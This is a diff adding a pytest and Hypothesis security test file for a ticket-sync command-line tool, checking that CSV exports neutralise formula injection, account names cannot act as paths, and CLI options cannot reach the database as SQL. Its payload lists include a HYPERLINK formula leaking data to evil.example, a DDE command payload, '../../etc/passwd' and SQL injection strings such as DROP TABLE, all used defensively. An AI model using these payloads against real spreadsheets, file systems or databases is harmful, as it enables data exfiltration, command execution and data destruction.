@@ -1,0 +1,208 @@
+"""
+What strangers wrote never becomes a formula, a path, a command or another question to
+the database (F123–F125).
+"""
+
+import csv
+import io
+import json
+import os
+import re
+import subprocess
+import sys
+from decimal import Decimal
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from ticketsync.net import budget
+from ticketsync.reporting import exports
+
+# In process, as the console script does it: 200 starts would take minutes.
+from ticketsync.sandbox import server, world
+from ticketsync.store import engine
+from ticketsync.store.tables.catalogue import Occurrence, Production
+from ticketsync.store.upsert import table_of
+
+CLI = [sys.executable, "-m", "ticketsync"]
+PAYLOADS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "\0=1",
+)
+
+
+@given(
+    payload=st.sampled_from(PAYLOADS),
+    tail=st.text(max_size=20),
+    number=st.integers(-(10**9), 10**9),
+)
+def test_f123_no_text_cell_begins_like_a_formula_and_numbers_stay_numbers(
+    payload, tail, number
+):
+    stream = io.StringIO()
+    row = {"name": payload + tail, "gross": exports.amount(number, "AUD"), "n": number}
+    exports.write_csv([row], ["name", "gross", "n"], stream)
+    _, cells = csv.reader(io.StringIO(stream.getvalue(), newline=""))
+    assert not cells[0].lstrip(" ").startswith(tuple("=+-@\t\r\n\0＝＋－＠"))
+    assert cells[0].startswith("'")
+    assert Decimal(cells[1]) == Decimal(number) / 100
+    assert int(cells[2]) == number
+
+
+@pytest.fixture(scope="module")
+def house(tmp_path_factory):
+    """
+    A synced venue whose productions and dates are called like attacks.
+    """
+    folder = tmp_path_factory.mktemp("house")
+    sandbox = server.Sandbox(world.build(orders=80))
+    environment = {**os.environ, "TT_KEY": sandbox.key, "TICKETSYNC_HOME": str(folder)}
+
+    def run(*arguments):
+        done = subprocess.run(
+            [*CLI, *arguments],
+            env=environment,
+            capture_output=True,
+            text=True,
+            stdin=subprocess.DEVNULL,
+        )
+        run.code = done.returncode
+        assert "Traceback" not in done.stderr, done.stderr
+        return done
+
+    run.folder = folder
+    with server.serving(sandbox) as url:
+        run(
+            *("init", "--venue", "V", "--timezone", "Australia/Sydney"),
+            *("--currency", "AUD", "--no-input"),
+        )
+        run(
+            *("accounts", "add", "ticket_tailor", "tt", "--base-url", url),
+            *("--secret-env", "TT_KEY"),
+        )
+        run("events", "fetch")
+        run("shows", "adopt", "--all")
+        run("sync", "--quiet")
+        database = engine.open_database(str(folder / "ticketsync.db"))
+        with database.write() as session:
+            for kind, column in ((Production, "title"), (Occurrence, "name")):
+                table = table_of(kind)
+                ids = session.connection().scalars(table.select()).all()
+                for place, id_ in enumerate(ids):
+                    evil = f"{PAYLOADS[place % len(PAYLOADS) - 1]} {place}"
+                    session.connection().execute(
+                        table.update().where(table.c.id == id_).values({column: evil})
+                    )
+        database.close()
+        yield run
+
+
+@pytest.mark.parametrize("what", ["sales", "financials", "fees", "refunds"])
+def test_f123_every_export_is_harmless_and_its_sums_are_the_databases(house, what):
+    rows = list(csv.DictReader(io.StringIO(house("export", what).stdout, newline="")))
+    as_json = json.loads(house("export", what, "--format", "json").stdout)
+    assert len(rows) == len(as_json)
+    for row in rows:
+        for cell in row.values():
+            is_number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
+            dangerous = cell.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠"))
+            assert is_number or not dangerous, cell
+    for column in ("gross", "amount", "net_before_fees"):
+        if rows and column in rows[0]:
+            told = sum(Decimal(row[column]) for row in rows if row[column])
+            held = sum(Decimal(row[column]) for row in as_json if row[column])
+            assert told == held
+
+
+def test_f123_raw_leaves_texts_as_they_are(house):
+    raw = house("export", "financials", "--raw").stdout
+    assert "=1+1" in raw
+    assert "'=1+1" not in raw
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["../../etc/passwd", "a/b", "a\\b", "..", "", "nul\0", "x" * 5000, "a b", "CON:"],
+)
+def test_f124_an_account_cannot_be_named_like_a_path(house, name):
+    if "\0" in name:
+        with pytest.raises(ValueError, match="null byte"):
+            house("accounts", "rename", "tt", name)
+        return
+    house("accounts", "rename", "tt", name)
+    assert house.code == 2
+
+
+@pytest.mark.parametrize(
+    "name", ["../../x", "a/b\\c", "..", "Ünïcode", "x" * 5000, "a\0b", "con"]
+)
+def test_f124_names_become_a_short_slug(home, name):
+    file = budget._file_of(name)
+    assert file.parent == home / "state"
+    assert re.fullmatch(r"calls-[a-z0-9-]{0,60}\.sqlite", file.name)
+
+
+INJECTIONS = (
+    "' OR '1'='1",
+    "'; DROP TABLE orders; --",
+    "1) UNION SELECT name FROM sqlite_master --",
+    '" OR ""="',
+    "%",
+    "_",
+    "\\",
+    "1 OR 1=1",
+    "x' AND (SELECT count(*) FROM accounts) > 0 --",
+    "9" * 400,
+    "-1",
+    "😀",
+)
+TEXT_OPTIONS = (
+    ("shows", "list", "--production"),
+    ("shows", "show"),
+    ("financials", "show"),
+    ("financials", "explain"),
+    ("runs", "show"),
+    ("match", "--dry-run"),
+    ("privacy", "export"),
+    ("accounts", "check"),
+    ("unlink",),
+)
+
+
+@pytest.mark.parametrize("words", TEXT_OPTIONS, ids=" ".join)
+def test_f125_no_option_reaches_the_database_as_sql(house, words, monkeypatch, capsys):
+    """
+    Exit code 0, 2 or 10, never our bug; and the tables are all there afterwards.
+    """
+    from ticketsync.__main__ import main
+
+    monkeypatch.setenv("TICKETSYNC_HOME", str(house.folder))
+    for text in INJECTIONS:
+        monkeypatch.setattr(sys, "argv", ["ticketsync", *words, "--", text])
+        if words[-1].startswith("--") and words[-1] != "--dry-run":
+            monkeypatch.setattr(sys, "argv", ["ticketsync", *words, text])
+        try:
+            main()
+            code = 0
+        except SystemExit as end:
+            code = end.code or 0
+        assert code in (0, 2, 10), (text, capsys.readouterr())
+    database = engine.open_database(str(house.folder / "ticketsync.db"))
+    with database.read() as session:
+        count = session.connection().exec_driver_sql("SELECT count(*) FROM orders")
+        assert count.scalar() == 80
+    database.close()
